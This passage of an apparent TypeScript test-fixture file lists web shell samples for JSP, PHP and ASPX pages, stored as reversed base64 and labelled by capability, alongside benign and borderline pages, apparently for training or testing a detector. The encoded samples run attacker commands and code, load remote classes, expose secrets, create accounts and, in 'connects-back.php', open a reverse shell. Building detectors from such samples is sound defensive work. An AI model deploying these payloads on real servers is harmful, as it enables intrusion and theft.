    text: '=4TJKUWdyRFIsADIsUGbvh2Vg4WdS5ybKkiIsxWZoNlL0BXayN2UXJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBSPg8GI0V2UKU2ahRlCu9Wa0Nmb1ZEIk5WRKIyLiAiJgQ3cvhGImAiIv8iOwRHdoJCI9ASZs9GaXpQKoUGbvh2Vg42bpR3YuVnRKIWdTBCZuVkCpICaigCdzVWdxVmUg0DI0N3bopQKoU2ahRFIiV3UKQ3cvhGItlGRKUCP',
  },
  {
    name: 'statement-of-beans.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+UCI7kCKlRXdjVGel5SK9BSKiMmIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgsXXbR3YlpmYPBydl5GIsIyYlJCIrAiI4VmIgwSKoUWbpRnb1JFdldmLl1Wa05WdShCduVWblRXY0NlLz5WYlJmLhZXYqBydl5GIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'named-by-a-row-set.jsp',
    capability: 'loads-code',
    parameter: 'u',
    text: '==gPlAyOpUWdyRHK0lWbt92QvRXdBRXZz5icgsTKpISdigiclRXZtFmchBFdldmL0NXZ1FXZyhSZtFmTlNmc192UhRXYERXZz5icgsTKowGctlEdlN1dvJ1YiRmSuQXZzd3by5ib1NnLt92YgcXZuBSPgIHIsBXbJRXZTd3bSNmYkpkL0V2c39mcu4Wdz5SbvNGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'value-expression.jsp',
    capability: 'runs-code',
    parameter: 'c',
    text: '==gPlAyOpwGb15GKlVHbhZFdldmLpM3chx2YuQ3YlpmYPBCLi0nIgsCIpIyYigiclRXZtFmchBFdldmL0NXZ1FXZyByKgIyekICIskCK0hXZ052bDxUR0V2ZukCKyV2Zh5WYNxURuwWZugXY2FmagcXZuhibvl2czVmcwhXRlVHbhZVZ0FWZyNmLpgSey9GdjFmRu9WazNXZyBHeFRXZn5icldWYuFWTMVkLsVmL4FmdhpGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'another-servers-classes.jsp',
    capability: 'loads-code',
    parameter: null,
    text: '==gPlAyOpgSZj5WY0NnbJdXZu5SKiEkIoM3chx2QkF2bs5SK9BSKiIXYq5SYvcjLy4CMuITOx8yL6AHd0hmIowkUV5Cdl5mLhZXYqBydl5GI711WMJVVuQXZu5SY2FmagcXZuhiclRWYvx0czFGbDxkUV5Cdl5mLhZXYqBydl5GIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'script-of-a-text.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=4TJgsTKisTKdBzWzhyYlhXZukCKl1Wa05WdSRXZn5SZtlGduVnUucmbhxmLhZXYqtTKnM2JoIXZ0VWbhJXYQRXZn5CdzVWdxVmc90FMbN3OdFzW9MnIowWY2VmLpIiby9GazFmbigSZtFmT5JUZul2ZuVEdldmLpgicldWYuFWTl5Wan5WR0BXayN2UuQHcpJ3Yz5CehZXYqBydl5GIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'method-util.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gPlAyOp0HIpICIigCdpxGcz5SKiMmIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgsXXbR3YlpmYPBydl5GIswGb15GIs0GKlt2b25WauwWa0VFZvhGdl1kLjNXat5CdjVGbmVmcu4WdzByOpM3chx2Yu01Wn5WayR3UgwiI0JXY0NnIoQ2boRXZNRWZyFGbjVGR0V2ZukiIsBXbJN3clN2byBlLn5WYs5SY2FmaigSZtFmTy9mZuM3chx2Qg0DItBCZvhGdl1kL0NWZsZWZy5yZuFGbuEmdhpGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'sections-between.jspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gP092bypDczp2L84DdlxGdwlmcjNnOwNnavwzOpkiIjJCKyVGdl1WYyFGU+0VX0V2ZuQ3clVXclJHKjV2WBRVQEN0WhwDel5SKo4TXdVWbpR3WBRVQEN0Whwjb1JlPd1FdldmLl1Wa0tVQUFERDtVI84WdS5DdlxGdwlmcjNnOwNna84jIw4iMi0jbvl2cyVmdgISZnFGUvA1UK9SbvNmLuV3cuEmdhp2LvoDc0RHai0DczpmOz5GbthHI092bypDczpGP',
  },
  {
    name: 'thing-of-windows.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==wOpgCbsFEZhVmU+0SKoQXdPRGdT5TLlRCIvh2YlByOp0lIjJyWUN1TQ9FJuICIj9CIlhnIuISZuQmIuISbjJCKjVGel5TL3RCI9ASZkAyOpIybuJCKllGZgI3bgkiIsxmIuISZoNnL0JiLiAXai4iIyN2Ui4iIXJCKN90QgcXZuBSPgcHJgAHaw9DP',
  },
  {
    name: 'filter-of-an-array.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '7kSKpICdyV2czFmIg4TPgIycu9Wa0B3biACLLNUQCxETBN0XSVEVMlkRg4TPgIiclRHbpZmIokXYyJXYg4TPgICdigSehJnchBCLp0lIjJyWUNVRVFVRS9FJg4TPgICdigSehJnchhSehJnch9lchZ3XyVGdslmZgAHaw9DP',
  },
  {
    name: 'trimmed-name.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '==wOp0lIjJyWUN1TQ9FJogHJAByOpIybsxWZoBiIgwiIvxGblhGI0JXZzNXYigSbpJHdyBSPggHJgAHaw9DP',
  },
  {
    name: 'formatted-name.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgiZkAyOpIEIsEEIsIyclMXJigiZ05WayB3cg0DImRCI7ISblRnIg0DICBCdz52bjByOpIyc5NnIgwiIBJCKl5WamVGZgAHaw9DP',
  },
  {
    name: 'another-engine.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '==wOpISKnICIuASXiMmIbRVRH9FJg4CIicCKtVGdzl3cigCbhZXZ+0CckAyOpgCbyVGcgcXZuBSPgAHJgAHaw9DP',
  },
  {
    name: 'thing-with-a-field.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '==wOdJyYisFVT9EUfRCI9ACe+0SYkAyOBBydl5GI9ASYkASfg0HI7kCe+0ycphGdkgCbhZXZgsHIpgCdjVnc0NXZk91Xg42bpR3YuVnZgsDekAyYpxmY1BHI7BSQgM3chx2YgAHaw9DP',
  },
  {
    name: 'connects-back.php',
    capability: 'executes-commands',
    parameter: null,
    text: '7kyJiEjJ+ADI0QDN08yNuIjLw4iM5EzLwNGdvYXZk9CIm4DIp1CIoNXYiJCIj1CIoNXYi9ibpJ2LngyYlhXZgAHaw9DP',
  },
];

export const doubtfulToo: readonly { readonly name: string; readonly capability: Capability; readonly text: string }[] = [
  {
    name: 'account.aspx',
    capability: 'makes-accounts',
    text: '==gP0BXayN2cvwjC9tTKoUmdhNlL1ByOpUWdyRHIsIiYiACLiEmIgwCeowWYwl2YulmcQJXZzVFI3Vmbg0DI1BichZHI7kSZulGajFWTuUGc5RFd4VGdu92QoQHelRnbvNEbhBXaj5WayBFI3Vmbg0DI4BichZ3epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'connection-asked-for.aspx',
    capability: 'shows-secrets',
    text: '=4DdwlmcjN3L8oQf7kyZulmc0NlbvlGdjVmbu92Qu0VXi4mIbR3clVXclJ1WzdmbpJHdT52bpR3Yl5mbvNkLyV2Zh5WYN52bpRXYyV3ZpZmbvNEKlRXaydlLlNnbvB3clJ1epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'hives.aspx',
    capability: 'shows-secrets',
    text: '=4DdwlmcjN3L8oQf9ByOpkiboUWdsFmV0V2RusGKlRXaydlLlNnbvB3clJFIpkCKzVWbh5UZ1xWYWRXZH5yag4Wag4GIn5WayR3coACajFWZy9mZgsTKoA3bQ5ScpkXZLlnc0NXanVmUoASPgsGIyFmdgsHIpADI+ACduV3bD5ScoASZslGa3ByOpMnclNXVuknc0NXanVmUog2c1BlLxByOpUmbph2Yh1EbhN2bM5SeyR3cpdWZShCazVHUuEHI7kCKrNWY0NFI3Vmbg0DIxBichZ3epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'carried-program.aspx',
    capability: 'loads-code',
    text: '==gP0BXayN2cvwjC9tjYg0DIdJCeislbvlGdhNWasBHcBByOiEUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFURBFUQB1UQBFVcWRlIg0DIiBichZ3epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'carried-class.jsp',
    capability: 'loads-code',
    text: '==gPlAyOpkCKoR3ZuVGbuIGK05WayBnL0V3bgsjIBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBFUQBRSSkIGOkwGJkQCTFNkQkQiIg0DIiByZulmc0NFIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'source-elsewhere.aspx',
    capability: 'runs-code',
    text: '+UCIiEkI9MHdpJXZo5WSgIyZwpmLhxFXw1WZUxFXzd3bk5WaXxFX6MkI9MmcTBiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'unknown-method.jsp',
    capability: 'loads-code',
    text: '=4TJgsTK9BSKiMmIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgsXXbR3YlpmYPBydl5GIswGb15GKlt2b25Wau01MblCKzR2boRXZNRWZyFGbjVGR0V2ZuMGI7kSKo4GKl1WYOJ3bm5yczFGbDBSPgMGIzNXYsNEIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'style-sheet.jsp',
    capability: 'runs-code',
    text: '+UCI7kSKpgiclRWYlJFdldmL0NXZ1FXZyhSZjJXdvNVbhVmc0NlLtFWZyR3cu0mcvZ2cuFmc05CbthnL4FmdhpGI3VmboIXZtJ3bmNnbhJHV3VmbukCKlNmbhR3cul0dl5mL5J3b0NWYGJXZtJ3bmNnbhJHVu0mcvZ2cuFmc05CbthnL4FmdhpGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'field-set.jsp',
    capability: 'runs-code',
    text: '=4TJgsTKpIyYigiclRXZtFmchBFdldmL0NXZ1FXZyBCLvhCdlNnLmByOpICa0FGUjVGelJCKkxWZpZEZlJXYsNWZERXZn5SKiIXZoNmb1FGTl1WaN5yd3dnL0Vmbu4WdzJCKl1WYOJ3bm5yczFGbDBSPgYGIkxWZpZkL0NWZsZWZy5yZuFGbuEmdhpGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'made-up-name.php',
    capability: 'runs-code',
    text: '=sTKdJyYisFVFd0XkgSKpQDIs0GJoIHdzJWdzBiLgkyMgwCMgwSbkgic0NnY1NHKgsjItVGdhl3ciASPg0GJgAHaw9DP',
  },
  {
    name: 'comspec.php',
    capability: 'executes-commands',
    text: '==wOpAHJoU2cvx2YfN2byBHI7kCekACLpkiIyJCIsISZwlGcigSehJnchBiP9ACMokXYyJXYgwSXiMURQNVTPNkIbJVRWJVRT9FJo4WZw92Xj9mcwBSPgAHJgAHaw9DP',
  },
  {
    name: 'preload.php',
    capability: 'loads-code',
    text: '=sTKiMmIgwiIiJCIsISZsBXbhhXZugHQhJCKslWYtByOpIybz5CevAXb09SPEF0TMVkUQ9FRMJCK25WZ0VHcgAHaw9DP',
  },
  {
    name: 'address-asked-for.php',
    capability: 'proxies-traffic',
    text: '=sTKi4GXyxlbcJHXw4SMvAFVUhEIvACVFdkIgwCcmRCKlRXaydnZgsTKwgDIs0lI0N3boJyWtRCKuVGcvt2YvNnZg0DIwZGJgsTKdJCbyVnIbRVRH9FJowmc19VZzJXYwBSPg0GJgAHaw9DP',
  },
];

export const ordinaryToo: readonly { readonly name: string; readonly text: string }[] = [
  {
    name: 'properties.aspx',
    text: '+QHcpJ3Yz9CPK0HI7U2ZhBFIrASKl1WYOhSZk92YuVEbtRHSukHdpxWa0VFc0RHSg0DIlxGdpRFI7BSKlBycnJXQ05WZ2VEIsMHI0NWZqJ2boQWYvx0XldWYQBCZp9mdK0HI9ByOp0lIwJyW0NXZ1FXZShSZzJXYQ5CdulGIuJXd0VmcgsHI0V2ZgsHIldWYQBCdulmC70lIuJyW0NXZ1FXZSBiP9ASZtFmTgcmbpJHdzpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'lambdas.ashx',
    text: '9BSfg0HI7UWdyRHIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwBSfgsTKpkCeoUGZvNmbFxWb0hkL5RXaslGdVBHd0hEKlRXaydlLlNnbvB3clJlLjBiP9ACeog2YhVkcvZkL3ByOpgCdzlGTvRlLpIDI+ACa0dmblxkL4BiP9ACeoUmclh2VukSK4hCdg4TPggHK0NWZsV2UukyJgcCK0lGbwNlLdJScisFdzVWdxVmUuMGI9AydgIXY2ByOpgSbpJHVugHI+0DI4BSPgQHI+cmbpJHdzxyZulmc0NHPj5WdGByegkyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcgsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7EnbpxkLtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'with.aspx',
    text: '=4DdwlmcjN3L8IWdTBCZuVkCpgiclRWYlJVZ0V3YlhXRuMGI9ASZjJXdvNVY0FGRuQWaydkCoRXaXBCZuVkCpkiIklmIoQ3clVXclJFIsICZpBkIoUWdsFmVoRXaXRGZB5ycyVGdl1WYyFGUuoAd4VGVuUGc5RFZuFWbt92Qg0DIlBXeURmbh1WbvNkLKMGIoRXaXpQKiQWaABSPgQWSgUmclh2dgMXZpRXaDBSbvJnZgUWbh5EI0NWZsV2cigCZuFWbt92QsF3UgcXZOBycBByYg0WaEpQKzdmcBRnblZXRgMXQgUGIsQ3YlpmYPBycBBycoQWYvx0XldWYQBiY1NlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'data-source.aspx',
    text: '=4TJg0lIklmIbR3clVXclJFI9UCP+U2YyV3bTFGdhREdjVmai9kOwNXYvwjPzJXZ0VWbhJXYQR3YlxWZT9CP+8iIklmI9QGbllmRn5WayR3U5JXZ1FFIiQWai0TZtFmTgIXZ0VWbhJXYQdmbpJHdTlnclVXU6A3chxjPzJXZ0VWbhJXYQR3YlxWZTxjPiQmbpZkI9Q2boRXZNR3YlxWZTBiIzJXZkJ3TuA3boNlI9UWbh5UZwlHVgIiclZnclNnI9QXYuVncgIybi0DZpBSZjJXdvNVY0FGR0NWZqJ2T6A3chxjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'reflection.aspx',
    text: '=4DdwlmcjN3L8oQf7kCbsVnbgwCduVmcyV3YoU2avZnbJ5SKig2clJnZlJlIoQ2boRXZNRXZH5SKyVWbvR3c1NEKm9WZwlHdgsTKpwGb15GIsQnblJnc1NGKlVHbhZFdldkLwhSZ0lmcX5SZz52bwNXZSBSKpgycllGdyVGcvJHU0V2Rukicl12b0NXdDhiZvVGc5RHIulGIwBichZHKgg2YhVmcvZ2epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'streams.jsp',
    text: '+UCI7kSK4hibsRnbpJHcuQXdv5SblR3c5NFI+0CI4hCajFWRy9mZukiMg4DIpgCa0dmblxmL4BiPtACeoIXZ0xWam5SKo0WYlJHdz5CbgsTKpICdigyclVHbhZlclRXZtFmchBFdldmL0NXZ1FXZyhCdzlGTzFmLzlXYyJXQg0DIsBiPn5WayR3U8Q3cpxEIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'numbers.php',
    text: '=sTKpU0RBBFIsADIsMHZpRCKlNWasN3X5FmcyFGIsICLigSZk9Gbw1Wag8GajVGI7kSfgsjYkASLgEGJg4mc1RXZyByegkiYkACLhRCKg42bpR3YuVnZgwycklGJoQncvNXdgsTKdJycklmIbR1UPB1XkACLiwWY2RnbpJCKwFWbflXYyJXYg0DIzRWakAyOwIDI9ASRHFEUgQ3cu92YgAHaw9DP',
  },
  {
    name: 'picture-of-a-user.php',
    text: '=0HI9ByOpEGdhRGJgwiIn5Gcu0HZpRyevMXZyVHdjlGcvYncz9iIoMHduVGdu92YfRXdw9VZslmZgsHIpEGdhRGJgwCZpRCKwVWZrBibvlGdj5WdmByegMnclNXVgM3chx2YgAHaw9DP',
  },
  {
    name: 'file-system.asp',
    text: '=4TJgIycllnIgUGdpJ3VuU2cu9GczVmUg4WZoRFIpkiI0hHduM3dl5mIogGdhBFch1kLyVmdyV2UoMHdzlGeFVGbpZkLzZGImlEIlwjC+Q3YlpmYv9CP+ICdjVmai9UblR3c5NVZslmRucmbpRHcpJ3YTJSPkl2ZvJHcgMnZ9QWagIXZ2JXZz1Ddh5WdyBCdjVmai9GP',
  },
];
